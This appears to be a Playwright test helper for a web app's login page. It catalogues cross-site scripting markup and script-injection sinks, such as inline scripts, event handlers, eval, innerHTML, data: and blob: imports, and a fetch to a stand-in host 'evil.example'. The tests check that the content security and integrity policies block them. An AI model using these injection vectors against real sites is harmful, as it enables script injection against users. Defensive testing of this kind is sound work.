import { createHash } from 'node:crypto';
import type { BrowserContext, Page } from '@playwright/test';

/** A foreign origin. It is never contacted: the test answers its requests. */
export const EVIL = 'https://evil.example';
/** A script on our origin and in our assets folder, but in no import map. */
export const UNLISTED = '/assets/mfe-elsewhere.0123456789abcdef.js';

const RUN = (what: string) => `(globalThis.ran ??= []).push('${what}')`;

/** Injected markup by name. What runs pushes its name to `ran`. */
export const MARKUP: Readonly<Record<string, string>> = {
  'inline script': `<script>${RUN('inline script')}</script>`,
  'inline module': `<script type="module">${RUN('inline module')}</script>`,
  'script with a guessed nonce': `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${RUN('script with a guessed nonce')}</script>`,
  'script of another origin': `<script src="${EVIL}/script-of-another-origin.js"></script>`,
  'unlisted script of our origin': `<script src="${UNLISTED}?unlisted-script-of-our-origin"></script>`,
  'unlisted module of our origin': `<script type="module" src="${UNLISTED}?unlisted-module-of-our-origin"></script>`,
  'script in a data: URL': `<script src="data:text/javascript,${RUN('script in a data: URL')}"></script>`,
  'event handler': `<img src="data:," onerror="${RUN('event handler')}">`,
  'script in a drawing': `<svg><script>${RUN('script in a drawing')}</script></svg>`,
  'handler of a drawing': `<svg onload="${RUN('handler of a drawing')}"></svg>`,
  'frame with javascript:': `<iframe src="javascript:void (parent.ran ??= []).push('frame with javascript:')"></iframe>`,
  'frame with srcdoc': `<iframe srcdoc="<script>(parent.ran ??= []).push('frame with srcdoc')</script>"></iframe>`,
  'link with javascript:': `<a id="press" href="javascript:void ${RUN('link with javascript:')}">press</a>`,
};

/** Script code in which attacker-controlled text reaches one of the browser's injection sinks. Each throws, rejects, or does nothing. */
export const SINKS: Readonly<Record<string, string>> = {
  'document.write': `const d = document.body.appendChild(document.createElement('iframe')).contentDocument; d.write('<script>(parent.ran ??= []).push("document.write")</script>'); d.close()`,
  eval: `eval("RUN")`,
  'new Function': `new Function("RUN")()`,
  'setTimeout of a string': `setTimeout("RUN")`,
  innerHTML: `document.createElement('div').innerHTML = '<img src="data:," onerror="RUN">'`,
  outerHTML: `document.body.appendChild(document.createElement('p')).outerHTML = '<img src="data:," onerror="RUN">'`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="RUN">')`,
  setHTMLUnsafe: `document.createElement('div').setHTMLUnsafe('<img src="data:," onerror="RUN">')`,
  'parse and adopt': `document.body.append(...document.importNode(new DOMParser().parseFromString('<img src="data:," onerror="RUN">', 'text/html').body, true).children)`,
  'contextual fragment': `document.body.append(document.createRange().createContextualFragment('<script>RUN</script>'))`,
  'text of a script': `const s = document.createElement('script'); s.textContent = 'RUN'; document.body.append(s)`,
  'address of a script': `const s = document.createElement('script'); s.src = '${UNLISTED}?address-of-a-script'; document.body.append(s)`,
  'srcdoc of a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran.push("srcdoc of a frame")</script>'; document.body.append(f)`,
  'a policy of its own': `trustedTypes.createPolicy('own', { createHTML: (text) => text }); RUN`,
  'import of data:': `await import('data:text/javascript,RUN')`,
  'import of blob:': `await import(URL.createObjectURL(new Blob(['RUN'], { type: 'text/javascript' })))`,
  'import of another origin': `await import('${EVIL}/import-of-another-origin.js')`,
  'import of an unlisted file': `await import('${UNLISTED}?import-of-an-unlisted-file')`,
  'worker of blob:': `await new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => { RUN; done() }; w.onerror = failed; })`,
  'fetch of another origin': `await fetch('${EVIL}/taken'); RUN`,
  'picture of another origin': `await new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = '${EVIL}/pixel.png' }); RUN`,
};

/** A script that tries all sinks independently. `ran` lists those that worked, `tried` is their number. */
export function allSinks(): string {
  // The name is in backticks, because the code uses single and double quotes.
  const run = (name: string) => `(globalThis.ran ??= []).push(\`${name}\`)`;
  const tries = Object.entries(SINKS).map(
    ([name, code]) => `await (async () => { ${code.replaceAll('RUN', run(name))} })().catch(() => {});`,
  );
  return `globalThis.ran = []; ${tries.join('\n')}\n globalThis.tried = ${tries.length};`;
}

/** A one-pixel picture for allowed requests. */
const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

export interface Visit {
  /** Markup inserted at the beginning of the body. */
  markup?: string;
  /** Script that replaces the shell and is listed in the document. */
  script?: string;
  /** Without the security policies, to show that the attack would work. */
  isBare: boolean;
}

const PATH = '/login';

/**
 * Opens the page with the injection and answers requests for the other origin and the unlisted file.
 * @returns the page, and every request that reached the other origin
 */
export async function visit(
  context: BrowserContext,
  origin: string,
  { markup = '', script, isBare }: Visit,
): Promise<{ page: Page; taken: string[] }> {
  const taken: string[] = [];
  const page = await context.newPage();
  const naming = ({ search, pathname }: URL) =>
    `(globalThis.ran ??= []).push('${(search.slice(1) || pathname.slice(1, -3)).replaceAll('-', ' ')}')`;
  const headers = { 'access-control-allow-origin': '*' };
  await page.route(
    (url) => url.origin === EVIL || url.pathname === UNLISTED,
    (route) => {
      const url = new URL(route.request().url());
      if (url.origin === EVIL) taken.push(url.pathname);
      const isPicture = url.pathname.endsWith('.png');
      return route.fulfill({ headers, contentType: isPicture ? 'image/png' : 'text/javascript', body: isPicture ? PIXEL : naming(url) });
    },
  );
  await page.route(origin + PATH, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': policy = '', 'integrity-policy': integrity = '', ...others } = response.headers();
    let body = (await response.text()).replace('<body>', `<body>${markup}`);
    const [, entry = '', hash = ''] = /<script type="module" src="([^"]+)" integrity="([^"]+)"/.exec(body) ?? [];
    if (script !== undefined) {
      body = body.replaceAll(hash, `sha256-${createHash('sha256').update(script).digest('base64')}`);
      await page.route(origin + entry, (asked) => asked.fulfill({ contentType: 'text/javascript', body: script }));
    }
    const policies = { 'content-security-policy': policy, 'integrity-policy': integrity };
    await route.fulfill({ status: response.status(), headers: isBare ? others : { ...others, ...policies }, body });
  });
  await page.goto(origin + PATH);
  return { page, taken };
}

/** The names of the attacks that ran. */
export const ranOn = (page: Page): Promise<string[]> => page.evaluate(() => (globalThis as { ran?: string[] }).ran ?? []);
